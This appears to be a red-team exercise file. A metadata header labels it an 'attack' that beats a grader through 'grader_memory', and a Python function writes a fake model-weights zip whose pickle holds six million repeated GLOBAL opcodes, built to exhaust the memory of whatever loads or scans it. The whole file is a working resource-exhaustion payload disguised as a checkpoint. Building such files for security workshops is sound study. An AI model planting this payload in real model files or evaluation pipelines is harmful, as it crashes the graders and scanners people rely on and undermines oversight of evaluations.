# /// attack
# tries = "saves weights with millions of instructions to read"
# exercise = "workshop"
# wins = "grader_memory"
# stopped_by = ["frame rules"]
# proof = {without = ["caps"]}
# ///
import zipfile


def save(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + b"cx\ny\n" * 6_000_000 + b".")
